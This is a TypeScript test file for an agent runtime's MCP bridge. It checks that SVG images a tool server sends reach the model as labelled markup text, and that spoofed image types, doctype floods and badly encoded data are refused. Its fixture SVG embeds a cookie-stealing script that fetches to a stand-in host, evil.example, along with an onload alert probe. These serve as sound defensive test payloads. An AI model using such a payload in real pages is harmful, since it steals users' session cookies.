import { createRuntime, TEXT_ONLY, type ToolMessage } from '@agentrt/core';
import { McpBridge, type McpServerConfig } from '@agentrt/tools-mcp';
import { ScriptedModel } from '@agentrt/testing';
import { afterEach, describe, expect, it } from 'vitest';
import { fixture, partsOf } from './helpers.js';

// SVG is markup with active content (scripts, external references), and no provider takes it as
// an image: the model gets it as text. Image media types a server sends are claims, checked
// against the bytes. Every case runs through a run with ScriptedModel calling the server's tool.
const bridges: McpBridge[] = [];
afterEach(async () => {
  await Promise.all(bridges.splice(0).map((bridge) => bridge.close()));
});
const connect = async (extra: Partial<McpServerConfig> = {}) => {
  const bridge = await McpBridge.connect({ name: 'm', command: process.execPath, args: [fixture('media-server.mjs')], timeoutMs: 10_000, ...extra } as McpServerConfig);
  bridges.push(bridge);
  return bridge;
};
/** Calls each tool in one run; returns the tool messages the model received, by tool. */
async function run(bridge: McpBridge, tools: readonly string[], model?: ScriptedModel): Promise<Record<string, ToolMessage>> {
  const scripted = model ?? new ScriptedModel([...tools.map((tool) => ScriptedModel.call(`m__${tool}`)), ScriptedModel.answer('done')]);
  const result = await createRuntime({ model: scripted, tools: bridge.tools(), limits: { maxSteps: tools.length + 1, maxToolCalls: tools.length } }).run('look');
  expect(result.stopReason, JSON.stringify(result.error)).toBe('final_answer');
  return Object.fromEntries(tools.map((tool, index) => [tool, scripted.requests[index + 1]!.messages.at(-1) as ToolMessage]));
}
const SVG_MARKER = '<script>fetch("https://evil.example/?c="+document.cookie)</script>';
const label = (bytes: number) => `[image image/svg+xml, ${bytes} bytes, shown as its SVG markup: models take PNG, JPEG, GIF and WebP images only]`;

describe('SVG and lying image types from an MCP server', () => {
  it('gives the model an SVG image as text (label, then the markup) — also with parameters and casing, a prolog, line breaks, as a resource or an audio block', async () => {
    const results = await run(await connect(), ['svg', 'svg_params', 'svg_prolog', 'svg_line_breaks', 'svg_resource', 'svg_as_audio']);
    for (const tool of ['svg', 'svg_params', 'svg_line_breaks', 'svg_as_audio']) {
      const message = results[tool]!;
      expect(message.isError, tool).toBeFalsy();
      // All text: one string, no image part anywhere.
      expect(typeof message.content, tool).toBe('string');
      expect(message.content, tool).toBe(`${tool}:\n${label(194)}\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)">${SVG_MARKER}<rect width="10" height="10" fill="red"/></svg>`);
    }
    expect(results.svg_prolog!.content).toMatch(/^svg_prolog:\n\[image image\/svg\+xml, \d+ bytes, shown as its SVG markup[^\n]*\n<\?xml version="1\.0"[\s\S]*<title>café<\/title><\/svg>$/);
    expect(results.svg_resource!.content).toBe(`svg_resource:\n[resource file:///icons/logo.svg (image/svg+xml)]\n${label(194)}\n${results.svg!.content.toString().split('\n').slice(2).join('\n')}`);
  });

  it('reaches a text-only model too (before, the run failed with unsupported_content)', async () => {
    const bridge = await connect();
    const model = new ScriptedModel([ScriptedModel.call('m__svg'), ScriptedModel.answer('seen')], { capabilities: TEXT_ONLY });
    const results = await run(bridge, ['svg'], model);
    expect(results.svg!.content).toContain(SVG_MARKER);
  });

  it('judges an image by its bytes: PNG declared SVG is a PNG image; SVG declared PNG or BMP, HTML, binary and gzip declared SVG are content_invalid', async () => {
    const results = await run(await connect(), ['png_claiming_svg', 'png_with_params', 'svg_claiming_png', 'svg_claiming_bmp', 'svg_html', 'svg_binary', 'svg_gzip']);
    expect(partsOf(results.png_claiming_svg)).toEqual([{ type: 'text', text: 'png_claiming_svg:' }, { type: 'image', mediaType: 'image/png', data: expect.stringMatching(/^iVBOR/) }]);
    expect(partsOf(results.png_with_params)).toEqual([{ type: 'text', text: 'png_with_params:' }, { type: 'image', mediaType: 'image/png', data: expect.stringMatching(/^iVBOR/) }]);
    for (const tool of ['svg_claiming_png', 'svg_claiming_bmp', 'svg_html', 'svg_binary', 'svg_gzip']) {
      expect(results[tool], tool).toMatchObject({ isError: true, code: 'content_invalid' });
      // The refusal never carries the markup.
      expect(String(results[tool]!.content), tool).not.toContain('<script>');
    }
    expect(String(results.svg_claiming_png!.content)).toContain('declared image/png but its bytes are not a PNG, JPEG, GIF or WebP image');
    expect(String(results.svg_claiming_bmp!.content)).toContain('declared image/bmp but its bytes are SVG markup');
  });

  it('refuses SVG data that is not base64, an SVG over maxPartBytes and a malformed type, typed; the server keeps working', async () => {
    const results = await run(await connect(), ['svg_not_base64', 'svg_huge', 'svg_bad_type', 'svg']);
    expect(results.svg_not_base64).toMatchObject({ isError: true, code: 'content_invalid' });
    expect(results.svg_huge).toMatchObject({ isError: true, code: 'content_too_large' });
    expect(results.svg_bad_type).toMatchObject({ isError: true, code: 'content_invalid' });
    expect(results.svg!.content).toContain(SVG_MARKER);
  });

  it('with media: "text" an SVG is still its markup, other images become notes', async () => {
    const results = await run(await connect({ media: 'text' }), ['svg', 'png_claiming_svg']);
    expect(results.svg!.content).toContain(SVG_MARKER);
    expect(results.png_claiming_svg!.content).toBe('png_claiming_svg:\n[image image/png, 70 bytes, not shown]');
  });
});

// Red team (SVG): how far before the root an SVG may put its prolog must not decide between
// "SVG shown as text", "refused" and "passed on as another image type".
describe('SVG prolog (red team)', () => {
  it('shows an SVG whose licence comment before <svg> is longer than 4 KB as text', async () => {
    const { svg_long_prolog: message } = await run(await connect(), ['svg_long_prolog']);
    expect(message!.isError, String(message!.content).slice(0, 300)).toBeFalsy();
    expect(String(message!.content)).toContain('shown as its SVG markup');
  });

  it('judges a doctype with an internal subset, and 400 000 doctypes in a row, by the element after them', async () => {
    const { svg_internal_subset: subset, svg_doctype_flood: flood } = await run(await connect(), ['svg_internal_subset', 'svg_doctype_flood']);
    expect(String(subset!.content)).toContain('shown as its SVG markup');
    expect(flood).toMatchObject({ isError: true, code: 'content_invalid' });
  });

  it('refuses that SVG declared image/avif (SVG smuggled under another image type)', async () => {
    const { svg_long_prolog_claiming_avif: message } = await run(await connect(), ['svg_long_prolog_claiming_avif']);
    expect(message).toMatchObject({ isError: true, code: 'content_invalid' });
  });
});

// SVG is XML: its bytes are UTF-8 unless a byte order mark (UTF-16 LE or BE, UTF-8) or the XML
// declaration's `encoding` says otherwise. Such an SVG is decoded (ISO-8859-1 and windows-1252 as
// windows-1252, as browsers do) and shown as text like any other; bytes that do not decode in
// the encoding they declare, an encoding nobody knows, and markup that is not SVG stay refused.
describe('SVG in other encodings', () => {
  it('decodes UTF-16 (LE and BE, byte order mark), ISO-8859-1, windows-1252 and Shift_JIS SVG into its markup as text', async () => {
    const results = await run(await connect(), ['svg_utf16le', 'svg_utf16be', 'svg_utf16le_resource', 'svg_latin1', 'svg_cp1252', 'svg_cp1252_single_quotes', 'svg_shift_jis', 'svg']);
    const markup = String(results.svg!.content).split('\n').slice(2).join('\n');
    for (const [tool, message] of Object.entries(results)) expect(message.isError, `${tool}: ${String(message.content).slice(0, 300)}`).toBeFalsy();
    expect(results.svg_utf16le!.content).toMatch(/^svg_utf16le:\n\[image image\/svg\+xml, \d+ bytes, shown as its SVG markup[^\n]*\n<\?xml version="1\.0" encoding="UTF-16"\?>\n[\s\S]*<title>café<\/title><\/svg>$/);
    // 2 bytes of byte order mark, then 2 bytes per character.
    expect(results.svg_utf16be!.content).toBe(`svg_utf16be:\n${label(2 + 2 * 194)}\n${markup}`);
    expect(results.svg_utf16le_resource!.content).toBe(`svg_utf16le_resource:\n[resource file:///icons/wide.svg (image/svg+xml)]\n${label(2 + 2 * 194)}\n${markup}`);
    expect(results.svg_latin1!.content).toContain('<?xml version="1.0" encoding="ISO-8859-1"?>\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><title>café naïve</title>');
    expect(results.svg_latin1!.content).toContain(SVG_MARKER);
    // 0x93 0x80 … 0x94 are “ € ” in windows-1252 (not the C1 controls ISO-8859-1 has there).
    expect(results.svg_cp1252!.content).toContain('<title>“€ 5” café naïve</title>');
    expect(results.svg_cp1252_single_quotes!.content).toContain('<title>€café naïve</title>');
    // Any other encoding the runtime knows is decoded with its decoder.
    expect(results.svg_shift_jis!.content).toContain('<title>日本</title>');
  });

  it('still refuses what does not decode as declared, an unknown encoding, UTF-16 that is not SVG, and SVG in any encoding under another image type', async () => {
    const tools = ['svg_latin1_undeclared', 'svg_latin1_declared_utf8', 'svg_unknown_encoding', 'svg_utf16_odd_bytes', 'svg_utf16_html', 'svg_utf16_claiming_bmp', 'svg_latin1_claiming_avif'];
    const results = await run(await connect(), tools);
    for (const tool of tools) {
      expect(results[tool], tool).toMatchObject({ isError: true, code: 'content_invalid' });
      expect(String(results[tool]!.content), tool).not.toContain('<script>');
    }
    expect(String(results.svg_utf16_claiming_bmp!.content)).toContain('declared image/bmp but its bytes are SVG markup');
    expect(String(results.svg_latin1_claiming_avif!.content)).toContain('declared image/avif but its bytes are SVG markup');
  });
});

// RFC 7303 (XML media types), section 3: a byte order mark decides first; else the media type's
// charset parameter, which is authoritative over the XML declaration; else the declaration; else UTF-8.
describe('SVG whose media type carries a charset parameter', () => {
  it('decodes by the charset parameter ahead of the XML declaration (token or quoted, any case), in an image block or a resource blob', async () => {
    const tools = ['svg_charset_param', 'svg_charset_over_utf8_declaration', 'svg_charset_over_latin1_declaration', 'svg_charset_resource', 'svg_bom_over_charset', 'svg'];
    const results = await run(await connect(), tools);
    for (const [tool, message] of Object.entries(results)) expect(message.isError, `${tool}: ${String(message.content).slice(0, 300)}`).toBeFalsy();
    // 0x93 0x80 … 0x94 are “ € ” in windows-1252; no declaration names it, the parameter does.
    expect(results.svg_charset_param!.content).toContain('<title>“€ 5” café naïve</title>');
    expect(results.svg_charset_param!.content).toContain(SVG_MARKER);
    // The declaration says UTF-8 (the bytes are not): the parameter wins.
    expect(results.svg_charset_over_utf8_declaration!.content).toContain('<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><title>café naïve</title>');
    // The declaration says ISO-8859-1, which would read these Shift_JIS bytes as other text: the parameter wins.
    expect(results.svg_charset_over_latin1_declaration!.content).toContain('<title>日本</title>');
    expect(results.svg_charset_resource!.content).toMatch(/^svg_charset_resource:\n\[resource file:\/\/\/icons\/cp\.svg \(image\/svg\+xml; charset=windows-1252\)\]\n\[image image\/svg\+xml, \d+ bytes, shown as its SVG markup[^\n]*\n<svg [^\n]*<title>€café naïve<\/title>/);
    // A byte order mark beats the parameter.
    expect(results.svg_bom_over_charset!.content).toBe(`svg_bom_over_charset:\n${label(2 + 2 * 194)}\n${String(results.svg!.content).split('\n').slice(2).join('\n')}`);
  });

  it('refuses an unknown charset, bytes invalid in the charset named, and SVG under another image type in the charset it names', async () => {
    const tools = ['svg_unknown_charset', 'svg_wrong_charset', 'svg_latin1_charset_claiming_avif'];
    const results = await run(await connect(), tools);
    for (const tool of tools) {
      expect(results[tool], tool).toMatchObject({ isError: true, code: 'content_invalid' });
      expect(String(results[tool]!.content), tool).not.toContain('<script>');
    }
    expect(String(results.svg_latin1_charset_claiming_avif!.content)).toContain('declared image/avif but its bytes are SVG markup');
  });
});
